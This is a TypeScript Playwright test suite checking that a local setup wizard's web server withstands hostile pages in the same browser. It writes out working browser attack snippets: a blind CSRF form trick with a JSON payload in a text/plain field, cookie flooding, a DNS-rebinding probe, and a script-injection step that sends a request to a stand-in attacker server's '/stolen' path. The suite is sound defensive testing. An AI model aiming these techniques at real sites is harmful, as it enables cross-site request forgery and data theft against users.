/**
 * Tests that other pages in the same browser can neither read nor change anything in an open wizard, nor interfere with
 * it.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { launchBrowser } from '../../build/chromium.ts';
import type { App } from '../../main/app/index.ts';
import { openWizardServer, type WizardServer } from '../../main/shells/browser/server.ts';
import { testEngine } from '../support/engine.ts';
import { WizardPages } from './pages.ts';

/** An attacker's name that resolves to this computer. */
const rebound = 'rebound.attacker.test';
let browser: Browser;
let context: BrowserContext;
let engine: App;
let wizard: WizardServer;
let target: string;
let evil: Server;
let evilPort: number;
let window_: Page;
let pages: WizardPages;
/** Every call that reached the engine. */
const calls: string[] = [];
/** Everything that the wizard's page sent to the attacker, e.g. in a referrer. */
const leaked: string[] = [];

beforeAll(async () => {
  browser = await launchBrowser([`--host-resolver-rules=MAP *.attacker.test 127.0.0.1`]);
  // A single browser context, so that the attacker's pages share cookies and cache with the wizard's page.
  context = await browser.newContext({ locale: 'de-DE', viewport: { width: 1024, height: 640 } });
  engine = testEngine();
  wizard = await openWizardServer({
    app: {
      ...engine,
      call: (operation, request) => {
        calls.push(operation);
        return engine.call(operation, request);
      },
    },
    folder: resolve('out/renderer'),
  });
  target = `http://127.0.0.1:${wizard.port}`;
  evil = createServer((request, response) => {
    leaked.push(JSON.stringify([request.url, request.headers]));
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end('<!doctype html><title>evil</title><h1>evil</h1>');
  });
  evil.listen(0);
  await once(evil, 'listening');
  evilPort = (evil.address() as AddressInfo).port;
  window_ = await context.newPage();
  window_.setDefaultTimeout(15_000);
  await window_.goto(wizard.address);
  pages = new WizardPages(window_, 'de');
  await pages.see('start.title');
});
afterAll(async () => {
  await browser.close();
  await wizard.close();
  await engine.close();
  evil.close();
});

/** Runs code on an attacker's page. If it throws, the attacker learns nothing but the error. */
async function attack<Found>(
  origin: string,
  code: (target: string) => Promise<Found>,
): Promise<Found | string> {
  const page = await context.newPage();
  try {
    await page.goto(`${origin}/`, { waitUntil: 'load' });
    return await page.evaluate(code, target).catch((error: unknown) => String(error));
  } finally {
    await page.close();
  }
}

const origins = {
  'another port of this computer, which gets the same cookies': () => `http://127.0.0.1:${evilPort}`,
  'another site': () => `http://localhost:${evilPort}`,
  'a site of the attacker’s': () => `http://www.attacker.test:${evilPort}`,
};

describe.each(Object.entries(origins))('a page on %s', (_name, origin) => {
  it.each<[string, (target: string) => Promise<unknown>, unknown]>([
    ['reads the page', (to) => fetch(to, { credentials: 'include' }).then((got) => got.text()), /TypeError/],
    [
      'calls the engine like the page does',
      (to) =>
        fetch(`${to}/call/app.open`, {
          method: 'POST',
          credentials: 'include',
          headers: { 'content-type': 'application/json', 'x-absender-key': 'guess' },
          body: '{"id":"x","input":{}}',
        }).then((got) => got.text()),
      /TypeError/,
    ],
    [
      'calls the engine without asking, blind',
      async (to) => {
        const kinds = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'];
        for (const kind of kinds)
          await fetch(`${to}/call/profiles.create`, {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            headers: { 'content-type': kind },
            body: '{"id":"x","input":{"practice":false}}',
          }).catch(() => undefined);
        return 'sent';
      },
      /^sent$/,
    ],
    [
      'sends a beacon',
      (to) => Promise.resolve(navigator.sendBeacon(`${to}/call/practice.stop`, '{"id":"x","input":{}}')),
      undefined,
    ],
    [
      'takes the session',
      (to) =>
        fetch(`${to}/session`, {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'include',
          body: '{"token":""}',
        }).then((got) => `${got.type} ${got.status}`),
      /TypeError/,
    ],
    [
      'listens to the events by fetch',
      (to) => fetch(`${to}/events`, { credentials: 'include' }).then((got) => got.text()),
      /TypeError/,
    ],
    [
      'listens to the events by EventSource',
      (to) =>
        new Promise((done) => {
          const source = new EventSource(`${to}/events`, { withCredentials: true });
          source.onmessage = (event) => done(`heard ${String(event.data)}`);
          source.onopen = () => done('open');
          source.onerror = () => done('refused');
        }),
      /^refused$/,
    ],
    [
      'opens a WebSocket',
      (to) =>
        new Promise((done) => {
          const socket = new WebSocket(`${to.replace('http', 'ws')}/events`);
          socket.onopen = () => done('open');
          socket.onerror = () => done('refused');
        }),
      /^refused$/,
    ],
    [
      'runs the page’s script as its own',
      (to) =>
        new Promise((done) => {
          const script = document.createElement('script');
          script.src = `${to}/no-eval.js`;
          script.onload = () => done('ran');
          script.onerror = () => done('refused');
          document.head.append(script);
        }),
      /^refused$/,
    ],
    [
      'shows the page’s picture',
      (to) =>
        new Promise((done) => {
          const image = new Image();
          image.onload = () => done('seen');
          image.onerror = () => done('refused');
          image.src = `${to}/icon.svg`;
        }),
      /^refused$/,
    ],
    [
      'puts the wizard into a frame to have it clicked on',
      (to) =>
        new Promise((done) => {
          const frame = document.createElement('iframe');
          frame.onload = () => {
            try {
              done(`loaded ${frame.contentDocument?.title ?? 'nothing'}`);
            } catch {
              done('closed off');
            }
          };
          frame.src = to;
          document.body.append(frame);
        }),
      /^(loaded nothing|closed off)$/,
    ],
    [
      'opens the wizard in a window and looks in',
      async (to) => {
        const opened = window.open(to);
        await new Promise((later) => setTimeout(later, 500));
        try {
          const found = opened?.document.body.innerText ?? 'cut off';
          return found === '' ? 'blank' : found;
        } catch {
          return 'closed off';
        } finally {
          opened?.close();
        }
      },
      /^(closed off|cut off|blank)$/,
    ],
    [
      'submits a form in the user’s name',
      (to) =>
        new Promise((done) => {
          const frame = document.createElement('iframe');
          frame.name = 'sink';
          const form = document.createElement('form');
          form.method = 'post';
          form.enctype = 'text/plain';
          form.target = 'sink';
          form.action = `${to}/call/profiles.create`;
          const field = document.createElement('input');
          field.name = '{"id":"x","input":{"practice":false},"pad":"';
          field.value = '"}';
          form.append(field);
          document.body.append(frame, form);
          frame.onload = () => done('submitted');
          form.submit();
        }),
      /^submitted$/,
    ],
    [
      'measures by errors whether a file is there',
      async (to) => {
        const answers: string[] = [];
        for (const path of ['/index.html', '/nothing', '/call/app.open'])
          answers.push(
            await fetch(to + path, { mode: 'no-cors' }).then(
              (got) => `${got.type} ${got.status}`,
              () => 'failed',
            ),
          );
        return new Set(answers).size;
      },
      1,
    ],
  ])('%s: reads nothing, and changes nothing', async (_what, code, learns) => {
    const before = calls.length;
    const learned = await attack(origin(), code);
    if (learns instanceof RegExp) expect(String(learned)).toMatch(learns);
    else if (learns !== undefined) expect(learned).toBe(learns);
    expect(calls.slice(before)).toEqual([]);
  });
});

describe('a name that resolves to this computer only after its page was loaded (DNS rebinding)', () => {
  it('reads nothing, because the server checks its host name', async () => {
    const before = calls.length;
    const opened = await context.newPage();
    const opening = opened.goto(`http://${rebound}:${wizard.port}/`);
    await expect(opening).rejects.toThrow('ERR_HTTP_RESPONSE_CODE');
    await opened.close();
    const page = await context.newPage();
    await page.goto(`http://${rebound}:${evilPort}/`);
    const learned = await page.evaluate(async (to) => {
      const answers = [];
      for (const path of ['/', '/call/app.open', '/events'])
        answers.push(await fetch(to + path, { credentials: 'include' }).then(String, () => 'refused'));
      return answers;
    }, `http://${rebound}:${wizard.port}`);
    expect(learned).toEqual(['refused', 'refused', 'refused']);
    expect(calls.slice(before)).toEqual([]);
    await page.close();
  });
});

describe('a page on another port of this computer', () => {
  it('cannot block access with cookies, which it can also set for the wizard’s port', async () => {
    const set = await attack(`http://127.0.0.1:${evilPort}`, (to) => {
      document.cookie = `absender-${new URL(to).port}=guess; path=/`;
      for (let index = 0; index < 150; index += 1) document.cookie = `c${index}=${'x'.repeat(4_000)}; path=/`;
      return Promise.resolve(document.cookie.length);
    });
    expect(set).toBeGreaterThan(500_000);
    await window_.reload();
    await pages.see('start.title');
  });
});

describe('the wizard’s window, after all this', () => {
  it('still works, and its URL reveals nothing', async () => {
    expect(window_.url()).toBe(`${target}/`);
    await pages.press('start.set-up');
    await pages.see('platform.title');
    expect(calls.at(-1)).not.toBe('practice.stop');
  });

  it('has sent nothing about itself to the attacker', () => {
    const token = new URL(wizard.address).hash.slice(1);
    expect(leaked.join('\n')).not.toContain(token);
    // Browsers send cookies to every port of a host; the only cookies here are the attacker's own.
    expect(leaked.join('\n')).not.toContain('x-absender-key');
    expect(leaked.join('\n')).not.toMatch(/"cookie":"(?!(?:absender-\d+=guess|c\d+=x+)[;"])/);
  });

  it('cannot be made to run or load a script, or to send anything elsewhere', async () => {
    const tried = await window_.evaluate(async (elsewhere) => {
      const script = document.createElement('script');
      let inline = 'refused';
      try {
        script.textContent = 'document.title = "owned"';
        document.head.append(script);
      } catch {
        inline = 'refused';
      }
      if (document.title === 'owned') inline = 'ran';
      const sent = await fetch(`${elsewhere}/stolen`, { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      const shown = await new Promise((done) => {
        const image = new Image();
        image.onload = () => done('loaded');
        image.onerror = () => done('refused');
        image.src = `${elsewhere}/stolen.png`;
      });
      return [inline, sent, shown];
    }, `http://127.0.0.1:${evilPort}`);
    expect(tried).toEqual(['refused', 'refused', 'refused']);
    expect(leaked.join('\n')).not.toContain('stolen');
  });
});
